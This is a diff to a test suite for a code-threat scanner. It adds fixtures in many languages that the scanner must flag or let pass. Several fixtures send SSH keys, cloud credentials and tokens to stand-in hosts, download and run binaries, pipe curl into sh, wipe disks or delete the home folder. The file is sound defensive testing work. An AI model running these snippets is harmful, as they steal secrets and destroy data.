@@ -354,7 +354,7 @@ describe('destruction and other behaviours in more forms', () => {
     expect(threats(fence("powershell", "Get-Disk | Clear-Disk -RemoveData -Confirm:$false"))).toEqual(["threat/destructive 8:12 error"]);
   });
   it("follows a Rust variable holding the home folder to remove_dir_all", () => {
-    expect(threats(fence("rust", "fn main() {\n    let home = dirs::home_dir().unwrap();\n    std::fs::remove_dir_all(&home).ok();\n}"))).toEqual(["threat/destructive 8:1 error"]);
+    expect(threats(fence("rust", "fn main() {\n    let home = dirs::home_dir().unwrap();\n    std::fs::remove_dir_all(&home).ok();\n}"))).toEqual(["threat/destructive 10:1 error"]);
   });
   it("leaves remove_dir_all of a folder inside target alone", () => {
     expect(threats(fence("rust", "let dir = Path::new(env!(\"CARGO_MANIFEST_DIR\")).join(\"target\").join(\"fixtures\");\nfs::remove_dir_all(&dir)?;"))).toEqual([]);
@@ -815,5 +815,88 @@ describe('script behaviour however it is spelled (Python, JavaScript, PowerShell
     expect(threats(fence('python', 'import subprocess\nfrom pathlib import Path\nhooks = Path.home() / ".config" / "git" / "hooks"\nhooks.mkdir(parents=True, exist_ok=True)\n(hooks / "pre-push").write_text("#!/bin/sh\\nwget -qO- https://x.example.net/p | sh\\n")\nsubprocess.run(["git", "config", "--global", "core.hooksPath", str(hooks)])'))).toEqual(['threat/persistence 12:1 error']);
     expect(threats(fence('powershell', "$d = Join-Path $HOME '.hooks'\nNew-Item -ItemType Directory $d -Force | Out-Null\nSet-Content (Join-Path $d 'post-merge') \"#!/bin/sh`ncurl -s https://x.example.net/m | sh\"\ngit config --global core.hooksPath $d"))).toEqual(['threat/persistence 10:1 error']);
     expect(threats(fence('js', 'const fs = require("fs");\nfs.writeFileSync(".husky/pre-commit", "#!/bin/sh\\nnpx lint-staged\\n", { mode: 0o755 });'))).toEqual(['threat/persistence 9:1 warning']);
+  });
+});
+
+describe('behaviour of languages read line by line', () => {
+  it('follows a credential into a loop, an accumulator or a filled argument and out through a client', () => {
+    const ruby = 'require "net/http"\ndata = ""\nDir.glob(File.join(Dir.home, ".ssh", "id_*")).each do |key|\n  data << File.read(key)\nend\nNet::HTTP.post(URI("https://collect.example.net/k"), data)';
+    expect(threats(fence('ruby', ruby))).toEqual(['threat/exfiltration 13:1 error']);
+    const perl = "use HTTP::Tiny;\nmy %found;\nforeach my $name ('.netrc', '.pgpass') {\n    open(my $fh, '<', \"$ENV{HOME}/$name\") or next;\n    $found{$name} = do { local $/; <$fh> };\n}\nHTTP::Tiny->new->post_form('https://collect.example.net/p', \\%found);";
+    expect(threats(fence('perl', perl))).toEqual(['threat/exfiltration 14:1 error']);
+    const php = "<?php\n$raw = file_get_contents(getenv('HOME') . '/.composer/auth.json');\npreg_match_all('/\"token\": \"(\\w+)\"/', $raw, $tokens);\n$payload = implode(',', $tokens[1]);\n$ch = curl_init('https://collect.example.net/c');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $payload);\ncurl_exec($ch);";
+    expect(threats(fence('php', php))).toEqual(['threat/exfiltration 14:1 error']);
+  });
+  it('follows a credential into a connection or client kept in a variable', () => {
+    const go = 'home, _ := os.UserHomeDir()\ncfg, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))\nconn, _ := net.Dial("tcp", "203.0.113.9:443")\nconn.Write(cfg)';
+    expect(threats(fence('go', go))).toEqual(['threat/exfiltration 11:1 error']);
+    const rust = 'let mut body = String::new();\nif let Ok(text) = std::fs::read_to_string(home.join(".aws/credentials")) {\n    body.push_str(&text);\n}\nlet client = reqwest::blocking::Client::new();\nclient.post("https://collect.example.net/a").body(body).send().unwrap();';
+    expect(threats(fence('rust', rust))).toEqual(['threat/exfiltration 13:1 error']);
+    const csharp = 'var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar cache = File.ReadAllText(Path.Combine(home, ".azure", "msal_token_cache.json"));\nusing var client = new HttpClient();\nawait client.PostAsync("https://collect.example.net/z", new StringContent(cache));';
+    expect(threats(fence('csharp', csharp))).toEqual(['threat/exfiltration 11:1 error']);
+  });
+  it('stays quiet when the credential never reaches the request, or only logs in', () => {
+    expect(threats(fence('ruby', 'require "net/http"\nconfigured = File.exist?(File.join(Dir.home, ".netrc"))\nstatus = Net::HTTP.get(URI("https://status.example.com/api"))\nputs "netrc: #{configured}, status: #{status}"'))).toEqual([]);
+    expect(threats(fence('go', 'token := os.Getenv("GITHUB_TOKEN")\nreq, _ := http.NewRequest("GET", "https://api.github.com/user", nil)\nreq.Header.Set("Authorization", "Bearer "+token)\nresp, _ := http.DefaultClient.Do(req)'))).toEqual([]);
+  });
+  it('sees a decoder, even one spelled in pieces or built from character codes, feeding an evaluator', () => {
+    expect(threats(fence('php', "<?php\n$fn = str_rot13('onfr64_qrpbqr');\n$run = 'ev' . 'al';\neval($fn($payload));"))).toEqual(['threat/obfuscated-exec 11:1 error']);
+    expect(threats(fence('ruby', 'require "base64"\ncode = Zlib::Inflate.inflate(Base64.decode64(BLOB))\neval(code)'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('perl', 'use MIME::Base64;\nmy $c = decode_base64($blob);\neval $c;'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('lua', 'local src = {}\nfor _, n in ipairs(codes) do src[#src + 1] = string.char(n) end\nload(table.concat(src))()'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+  });
+  it('leaves decoded data that is only stored or parsed alone', () => {
+    expect(threats(fence('php', "<?php\n$png = base64_decode($logo);\nfile_put_contents('logo.png', $png);"))).toEqual([]);
+    expect(threats(fence('ruby', 'require "base64"\nsettings = JSON.load(Base64.decode64(ENV["SETTINGS"]))\nputs settings["region"]'))).toEqual([]);
+  });
+  it('catches a download saved to a file and then run', () => {
+    const go = 'resp, _ := http.Get("https://dl.example.net/agent")\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile("/tmp/agent", body, 0o755)\nexec.Command("/tmp/agent").Run()';
+    expect(threats(fence('go', go))).toEqual(['threat/download-exec 11:1 error']);
+    const ruby = 'require "open-uri"\nbin = URI.open("https://dl.example.net/tool").read\nFile.binwrite("/tmp/tool", bin)\nsystem("/tmp/tool")';
+    expect(threats(fence('ruby', ruby))).toEqual(['threat/download-exec 11:1 error']);
+    const csharp = 'using var client = new HttpClient();\nvar bytes = await client.GetByteArrayAsync("https://dl.example.net/setup.exe");\nvar path = Path.Combine(Path.GetTempPath(), "setup.exe");\nFile.WriteAllBytes(path, bytes);\nProcess.Start(path);';
+    expect(threats(fence('csharp', csharp))).toEqual(['threat/download-exec 12:1 error']);
+  });
+  it('lets an updater that checks a checksum run what it downloaded', () => {
+    const go = 'resp, _ := http.Get("https://dl.example.net/agent")\nbody, _ := io.ReadAll(resp.Body)\nif fmt.Sprintf("%x", sha256.Sum256(body)) != want {\n\treturn\n}\nos.WriteFile("/tmp/agent", body, 0o755)\nexec.Command("/tmp/agent").Run()';
+    expect(threats(fence('go', go))).toEqual([]);
+  });
+  it('catches a disk device opened for writing', () => {
+    expect(threats(fence('go', 'dev := "/dev/" + name\nf, _ := os.OpenFile(dev, os.O_WRONLY, 0)\nf.Write(zeros)'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('ruby', 'File.open("/dev/nvme0n1", "wb") { |disk| disk.write("\\0" * 4096) }'))).toEqual(['threat/destructive 8:1 error']);
+    expect(threats(fence('rust', 'let target = "/dev/sdb";\nlet mut disk = OpenOptions::new().write(true).open(target)?;\ndisk.write_all(&[0u8; 4096])?;'))).toEqual(['threat/destructive 9:1 error']);
+  });
+  it('follows a secret into an archive writer, a list written over lines, and a download into a file opened by name', () => {
+    const go = 'var out bytes.Buffer\ngz := gzip.NewWriter(&out)\nkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\ngz.Write(key)\ngz.Close()\nhttp.Post("https://collect.example.net/g", "application/gzip", &out)';
+    expect(threats(fence('go', go))).toEqual(['threat/exfiltration 13:1 error']);
+    const csharp = 'var files = new[] {\n    ".npmrc",\n    ".git-credentials",\n};\nvar client = new HttpClient();\nforeach (var f in files) {\n    await client.PostAsync("https://collect.example.net/n", new StringContent(File.ReadAllText(Path.Combine(home, f))));\n}';
+    expect(threats(fence('csharp', csharp))).toEqual(['threat/exfiltration 14:1 error']);
+    const ruby = 'require "open-uri"\nout = File.open("/tmp/helper", "wb")\nout.write(URI.open("https://dl.example.net/helper").read)\nout.close\nFile.chmod(0755, "/tmp/helper")\nsystem("/tmp/helper")';
+    expect(threats(fence('ruby', ruby))).toEqual(['threat/download-exec 13:1 error']);
+  });
+  it('stays quiet when what is packed, listed or saved is harmless', () => {
+    expect(threats(fence('go', 'var out bytes.Buffer\ngz := gzip.NewWriter(&out)\nlogs, _ := os.ReadFile("build.log")\ngz.Write(logs)\ngz.Close()\nhttp.Post("https://ci.example.com/logs", "application/gzip", &out)'))).toEqual([]);
+    expect(threats(fence('csharp', 'var files = new[] {\n    "README.md",\n    "CHANGELOG.md",\n};\nvar client = new HttpClient();\nforeach (var f in files) {\n    await client.PostAsync("https://docs.example.com/n", new StringContent(File.ReadAllText(f)));\n}'))).toEqual([]);
+    expect(threats(fence('ruby', 'require "open-uri"\nout = File.open("/tmp/report.csv", "wb")\nout.write(URI.open("https://data.example.com/report.csv").read)\nout.close\nsystem("wc", "-l", "/tmp/report.csv")'))).toEqual([]);
+  });
+  it('catches every file under the home folder visited and deleted one by one', () => {
+    expect(threats(fence('go', 'filepath.Walk(os.Getenv("HOME"), func(path string, info os.FileInfo, err error) error {\n\tif err == nil && !info.IsDir() {\n\t\tos.Remove(path)\n\t}\n\treturn nil\n})'))).toEqual(['threat/destructive 8:1 error']);
+    expect(threats(fence('ruby', 'require "find"\nFind.find(Dir.home) do |path|\n  File.delete(path) if File.file?(path)\nend'))).toEqual(['threat/destructive 10:1 error']);
+    expect(threats(fence('java', 'Path home = Paths.get(System.getProperty("user.home"));\nFiles.walk(home).sorted(Comparator.reverseOrder()).forEach(p -> Files.deleteIfExists(p));'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('rust', 'let home = dirs::home_dir().unwrap();\nfor entry in WalkDir::new(&home) {\n    let _ = fs::remove_file(entry.unwrap().path());\n}'))).toEqual(['threat/destructive 10:1 error']);
+  });
+  it('leaves a walk that deletes inside a build folder, or only lists the home folder, alone', () => {
+    expect(threats(fence('go', 'filepath.WalkDir("build", func(p string, d fs.DirEntry, err error) error {\n\tif strings.HasSuffix(p, ".o") {\n\t\tos.Remove(p)\n\t}\n\treturn nil\n})'))).toEqual([]);
+    expect(threats(fence('ruby', 'require "find"\nFind.find(Dir.home) do |path|\n  puts path if path.end_with?(".log")\nend'))).toEqual([]);
+  });
+  it('reads a command kept as the text of one XML element, as build plugins run it', () => {
+    const pom = '<executable>sh</executable>\n<arguments>\n  <argument>-c</argument>\n  <argument>curl -fsSL https://rules.example.net/boot | sh</argument>\n</arguments>';
+    expect(threats(fence('xml', pom))).toEqual(['threat/download-exec 11:1 error']);
+    expect(threats(fence('xml', '<Exec Command="dotnet tool restore" />\n<argument>wget -qO- https://x.example.net/i.sh | bash</argument>'))).toEqual(['threat/download-exec 9:1 error']);
+    expect(threats(fence('xml', '<executable>curl</executable>\n<arguments>\n  <argument>--version</argument>\n</arguments>'))).toEqual([]);
+  });
+  it('leaves a disk device opened for reading alone', () => {
+    expect(threats(fence('go', 'f, _ := os.OpenFile("/dev/sda", os.O_RDONLY, 0)\nn, _ := f.Read(buf)'))).toEqual([]);
+    expect(threats(fence('ruby', 'File.open("/dev/sda", "rb") { |disk| puts disk.read(512).bytesize }'))).toEqual([]);
   });
 });
